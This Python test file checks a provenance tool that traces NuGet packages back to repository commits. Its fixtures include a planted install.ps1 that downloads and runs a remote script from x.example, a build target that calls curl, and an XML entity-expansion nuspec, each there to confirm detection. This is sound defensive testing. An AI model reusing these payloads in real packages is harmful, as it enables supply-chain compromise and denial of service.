"""NuGet: locate by nuspec <repository commit>, by content, install scripts, packaging metadata, broken nuspecs."""

from __future__ import annotations

import re

import pytest
from packageurl import PackageURL

from ossprov import ecosystems, stages
from ossprov.errors import InputError, RegistryError
from ossprov.fixtures.nuget import nuspec, publish_nuget
from ossprov.fixtures.world import World
from ossprov.model import FileStatus, Severity, Verdict

REPO_FILES = {"src/Acme.Tool/Acme.Tool.csproj": "<Project><PropertyGroup><PackageId>Acme.Tool</PackageId>"
              "<Version>1.2.3</Version></PropertyGroup></Project>\n",
              "src/Acme.Tool/build/Acme.Tool.props": "<Project><PropertyGroup><X>1</X></PropertyGroup></Project>\n",
              "src/Acme.Tool/content/readme.txt": "Acme tool\n",
              "src/Acme.Tool/Tool.cs": "class Tool {}\n"}
SHIPPED = {"build/Acme.Tool.props": REPO_FILES["src/Acme.Tool/build/Acme.Tool.props"],
           "content/readme.txt": REPO_FILES["src/Acme.Tool/content/readme.txt"],
           "lib/net8.0/Acme.Tool.dll": b"MZ\x90\x00fake assembly",
           "package/services/metadata/core-properties/abc.psmdcp": "<coreProperties/>"}


def project(world: World, name: str = "tool"):
    repo = world.repo(f"acme/{name}")
    sha = repo.commit("release", REPO_FILES)
    repo.commit("later", {"NEWS.md": "next\n", "src/Acme.Tool/content/readme.txt": "changed later\n"})
    return repo, sha


def test_nupkg_with_repository_commit_is_located_there(world: World) -> None:
    _, sha = project(world)
    spec = nuspec("Acme.Tool", "1.2.3", repository="https://github.com/acme/tool.git", commit=sha)
    result = stages.verify(publish_nuget(world, "Acme.Tool", "1.2.3", spec, SHIPPED))
    assert result.locate.commit == sha
    assert result.locate.artifact and result.locate.artifact.digest_ok is True
    statuses = {r.path: r.status for r in result.file_results}
    assert statuses["build/Acme.Tool.props"] is FileStatus.IDENTICAL
    assert statuses["content/readme.txt"] is FileStatus.IDENTICAL
    assert statuses["lib/net8.0/Acme.Tool.dll"] is FileStatus.GENERATED
    assert statuses["[Content_Types].xml"] is FileStatus.NORMALIZED
    assert statuses["package/services/metadata/core-properties/abc.psmdcp"] is FileStatus.NORMALIZED
    assert not [f for f in result.findings if f.severity is Severity.HIGH], result.findings


def test_without_commit_content_search_finds_it(world: World) -> None:
    _, sha = project(world, "nocommit")
    spec = nuspec("Acme.Tool", "1.2.3", repository="https://github.com/acme/nocommit")
    result = stages.locate(publish_nuget(world, "Acme.Tool", "1.2.3", spec, SHIPPED))
    assert result.commit == sha
    assert any(e.kind == "content-match" for e in result.evidence)


def test_install_script_absent_from_repository_is_high(world: World) -> None:
    _, sha = project(world, "hooked")
    spec = nuspec("Acme.Tool", "1.2.3", repository="https://github.com/acme/hooked", commit=sha)
    files = {**SHIPPED, "tools/install.ps1": "iex (iwr http://x.example/p.ps1)\n"}
    result = stages.verify(publish_nuget(world, "Acme.Tool", "1.2.3", spec, files))
    assert result.verdict is Verdict.MISMATCH
    assert any(f.path == "tools/install.ps1" and f.severity is Severity.HIGH for f in result.findings)


def test_modified_content_file_is_reported(world: World) -> None:
    _, sha = project(world, "edited")
    spec = nuspec("Acme.Tool", "1.2.3", repository="https://github.com/acme/edited", commit=sha)
    files = {**SHIPPED, "build/Acme.Tool.props": "<Project><Target Name='x'><Exec Command='curl x'/></Target>"
             "</Project>\n"}
    result = stages.verify(publish_nuget(world, "Acme.Tool", "1.2.3", spec, files))
    props = next(r for r in result.file_results if r.path == "build/Acme.Tool.props")
    assert props.status is FileStatus.MODIFIED and props.source_path == "src/Acme.Tool/build/Acme.Tool.props"
    assert any(f.path == "build/Acme.Tool.props" and f.severity is Severity.HIGH for f in result.findings)


def test_release_metadata(world: World) -> None:
    spec = nuspec("Acme.Meta", "2.0.0", repository="https://github.com/acme/meta", commit="a" * 40)
    publish_nuget(world, "Acme.Meta", "2.0.0", spec, {})
    release = ecosystems.get("nuget").release(PackageURL.from_string("pkg:nuget/Acme.Meta@2.0"))
    assert release.version == "2.0.0" and release.published_at == "2024-01-15T12:00:00+00:00"
    assert release.hints[0].commit == "a" * 40 and "sha512" in release.artifacts[0].digests
    with pytest.raises(InputError, match=re.escape("no version 9.9.9")):
        ecosystems.get("nuget").release(PackageURL.from_string("pkg:nuget/Acme.Meta@9.9.9"))


@pytest.mark.timeout(10)
@pytest.mark.parametrize("spec, message", [
    ("<package><metadata><id>x</id>", "not well-formed"),
    ('<?xml version="1.0"?><!DOCTYPE p [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
     "<package><metadata><id>&b;</id></metadata></package>", "entities"),
])
def test_broken_or_hostile_nuspec(world: World, spec: str, message: str) -> None:
    purl = publish_nuget(world, "Acme.Bad", "1.0.0", spec, {})
    with pytest.raises(RegistryError, match=message):
        stages.locate(purl)


def test_source_from_nuget_config(world: World, own_home, monkeypatch) -> None:
    monkeypatch.delenv("OSSPROV_NUGET_SOURCE")
    with pytest.raises(InputError, match="no NuGet source configured"):
        ecosystems.get("nuget").release(PackageURL.from_string("pkg:nuget/Acme.Cfg@1.0.0"))
    publish_nuget(world, "Acme.Cfg", "1.0.0", nuspec("Acme.Cfg", "1.0.0"), {})
    conf = own_home / ".nuget" / "NuGet"
    conf.mkdir(parents=True)
    (conf / "NuGet.Config").write_text(
        '<configuration><packageSources><add key="old" value="http://127.0.0.1:9/x.json"/><clear/>'
        f'<add key="local" value="{world.server.url}/nuget/index.json"/></packageSources></configuration>')
    assert ecosystems.get("nuget").release(PackageURL.from_string("pkg:nuget/Acme.Cfg@1.0.0")).name == "Acme.Cfg"


def test_read_manifest_from_csproj() -> None:
    manifest = ecosystems.get("nuget").read_manifest(
        lambda p: REPO_FILES[p].encode() if p in REPO_FILES else None, "src/Acme.Tool")
    assert manifest and (manifest.name, manifest.version) == ("Acme.Tool", "1.2.3")
